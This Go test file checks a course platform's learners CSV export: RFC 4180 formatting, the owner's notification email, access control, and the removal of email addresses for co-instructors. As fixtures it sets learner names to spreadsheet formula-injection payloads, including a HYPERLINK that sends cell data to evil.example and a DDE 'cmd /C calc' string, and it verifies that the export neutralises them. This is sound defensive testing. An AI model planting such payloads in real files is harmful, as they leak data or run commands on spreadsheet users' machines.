package export_test

import (
	"bytes"
	"encoding/csv"
	"mime"
	"strconv"
	"strings"
	"testing"
	"time"

	"lectern/ent/course"
	"lectern/ent/coursemember"
	"lectern/ent/enrollment"
	"lectern/ent/user"
	"lectern/internal/export"
	"lectern/internal/gid"
	"lectern/internal/testenv"
)

// TestLearnersExport runs a course's learners through the whole flow as
// its owner: requested, written by the job, announced by one email,
// downloaded through the signed URL as RFC 4180 CSV with the addresses,
// names that spreadsheets would run as formulas made inert, and nothing
// of it seen by anyone else.
func TestLearnersExport(t *testing.T) {
	t.Parallel()
	testenv.EachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		// Learners choose their names; these would run in a spreadsheet or
		// break a naive CSV.
		names := map[string]string{
			"kenji.watanabe@example.com":  `=HYPERLINK("http://evil.example/?"&A1,"Kenji")`,
			"lucia.fernandez@example.com": `Fernández, "Lucía"`,
			"samuel.mensah@example.com":   "@SUM(1+1)*cmd|' /C calc'!A0",
			"hannah.berg@example.com":     "+31 Hannah",
			"omar.haddad@example.com":     "-Omar",
		}
		for email, name := range names {
			if err := e.db.Ent.User.Update().Where(user.Email(email)).SetDisplayName(name).Exec(sys()); err != nil {
				t.Fatal(err)
			}
		}
		owner := e.signInDemo(t, "INSTRUCTOR")
		courseID := e.courseID(t, owner, demoCourse)
		requested := e.request(t, owner, "COURSE_LEARNERS_CSV", courseID)
		if got := e.listExports(t, owner); len(got) != 1 || got[0].ID != requested.ID {
			t.Errorf("viewer.exports = %+v, want the requested export", got)
		}

		e.runJobs(t)
		x := e.export(t, owner, requested.ID)
		if x == nil || x.Status != "SUCCEEDED" || x.Progress != 1 || x.RowCount == nil || *x.RowCount != demoLearners ||
			x.Error != nil || x.ExpiresAt == nil || x.URL == nil {
			t.Fatalf("export after the job = %+v, want SUCCEEDED with %d rows and a URL", x, demoLearners)
		}
		if want := e.clock.Now().Add(export.FileTTL); !x.ExpiresAt.Equal(want) {
			t.Errorf("expiresAt = %v, want %v (7 days after it was written)", x.ExpiresAt, want)
		}
		rec, body := e.download(t, x)
		disp, params, err := mime.ParseMediaType(rec.Header().Get("Content-Disposition"))
		wantName := "lectern-learners-" + demoCourse + "-" + e.clock.Now().UTC().Format("2006-01-02") + ".csv"
		if err != nil || disp != "attachment" || params["filename"] != wantName {
			t.Errorf("Content-Disposition = %q, want attachment named %s", rec.Header().Get("Content-Disposition"), wantName)
		}
		if ct := rec.Header().Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("Content-Type = %q, want text/csv", ct)
		}

		records := readCSV(t, body)
		wantHeader := []string{"Learner", "Email", "Enrolled at", "Status", "Progress", "Completed lessons", "Last activity"}
		if strings.Join(records[0], "|") != strings.Join(wantHeader, "|") {
			t.Errorf("header = %q, want %q", records[0], wantHeader)
		}
		if len(records) != demoLearners+1 {
			t.Fatalf("%d records, want the header and %d learners", len(records), demoLearners)
		}
		c := e.db.Ent.Course.Query().Where(course.Slug(demoCourse)).OnlyX(sys())
		for _, rec := range records[1:] {
			email := rec[1]
			en, err := e.db.Ent.Enrollment.Query().Where(enrollment.CourseID(c.ID), enrollment.HasUserWith(user.Email(email))).
				WithUser().Only(sys())
			if err != nil {
				t.Errorf("row %q names no learner of the course: %v", rec, err)
				continue
			}
			wantCell := en.Edges.User.DisplayName
			if strings.ContainsAny(wantCell[:1], "=+-@") {
				wantCell = "'" + wantCell
			}
			progress, _ := strconv.ParseFloat(rec[4], 64)
			wantProgress := min(1, float64(en.CompletedLessonCount)/float64(c.LessonCount))
			if rec[0] != wantCell || rec[2] != en.CreatedAt.UTC().Format(time.RFC3339) || rec[3] != string(en.Status) ||
				rec[5] != strconv.Itoa(en.CompletedLessonCount) || progress-wantProgress > 0.0001 || wantProgress-progress > 0.0001 || rec[6] == "" {
				t.Errorf("row %q, want learner %q enrolled %s, %s, %d lessons (progress %.4f)", rec, wantCell,
					en.CreatedAt.UTC().Format(time.RFC3339), en.Status, en.CompletedLessonCount, wantProgress)
			}
		}

		// One email, to the requester, linking to the export in the app
		// and not to the file.
		msgs := e.mail.exportMessages(t)
		if len(msgs) != 1 || len(msgs[0].to) != 1 || msgs[0].to[0] != testenv.DemoAccount(t, "INSTRUCTOR").Email {
			t.Fatalf("export emails sent = %+v, want one to the owner", msgs)
		}
		text := msgs[0].text(t)
		if link := e.cfg.PublicBaseURL + "/exports/" + requested.ID; !strings.Contains(text, link) ||
			!strings.Contains(text, c.Title) || strings.Contains(text, "/v1/files/") {
			t.Errorf("the email does not name the course and link to %s (and only there):\n%s", link, text)
		}

		// Nobody else sees the export or its file.
		learner := e.signInDemo(t, "LEARNER")
		admin := e.signInDemo(t, "ADMIN")
		for who, c := range map[string]*testenv.Caller{"learner": learner, "admin": admin, "anonymous": e.client.NewCaller()} {
			if got := e.export(t, c, requested.ID); got != nil {
				t.Errorf("%s reads the owner's export: %+v", who, got)
			}
		}
		if got := e.listExports(t, learner); len(got) != 0 {
			t.Errorf("the learner's exports = %+v, want none", got)
		}
	})
}

// TestLearnersExportWithoutAddresses: an instructor who is not the owner
// gets the learners without their email addresses.
func TestLearnersExportWithoutAddresses(t *testing.T) {
	t.Parallel()
	testenv.EachDialect(t, func(t *testing.T, dialect string) {
		e := newEnv(t, dialect)
		instructor := e.newAccount(t, "co-teacher", "INSTRUCTOR")
		c := e.db.Ent.Course.Query().Where(course.Slug(demoCourse)).OnlyX(sys())
		if err := e.db.Ent.CourseMember.Create().SetCourseID(c.ID).SetUserID(instructor.ID).SetRole(coursemember.RoleINSTRUCTOR).Exec(sys()); err != nil {
			t.Fatal(err)
		}
		x := e.request(t, instructor, "COURSE_LEARNERS_CSV", gid.New("Course", c.ID).String())
		e.runJobs(t)
		_, body := e.download(t, e.export(t, instructor, x.ID))
		records := readCSV(t, body)
		if want := "Learner|Enrolled at|Status|Progress|Completed lessons|Last activity"; strings.Join(records[0], "|") != want {
			t.Errorf("header = %q, want %s", records[0], want)
		}
		if len(records) != demoLearners+1 {
			t.Errorf("%d records, want %d", len(records), demoLearners+1)
		}
		if bytes.Contains(body, []byte("@example.com")) {
			t.Errorf("an instructor's file holds email addresses:\n%s", body)
		}
	})
}

// readCSV parses body strictly as RFC 4180: CRLF line ends, quotes only
// where they belong, every record as wide as the header.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	if !bytes.HasSuffix(body, []byte("\r\n")) || bytes.Count(body, []byte("\n")) != bytes.Count(body, []byte("\r\n")) {
		t.Errorf("the file's lines do not all end in CRLF:\n%q", body)
	}
	r := csv.NewReader(bytes.NewReader(body))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the file is not valid CSV: %v\n%s", err, body)
	}
	if len(records) == 0 {
		t.Fatal("the file has no header")
	}
	return records
}

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		"":             "",
		"Ada Lovelace": "Ada Lovelace",
		"=1+1":         "'=1+1",
		"+31 6 1234":   "'+31 6 1234",
		"-2":           "'-2",
		"@SUM(A1)":     "'@SUM(A1)",
		"\tTab":        "'\tTab",
		"\rCR":         "'\rCR",
		"a=b":          "a=b",
		"'quoted":      "'quoted",
		`"Lucía"`:      `"Lucía"`,
	} {
		if got := export.Cell(in); got != want {
			t.Errorf("Cell(%q) = %q, want %q", in, got, want)
		}
	}
}
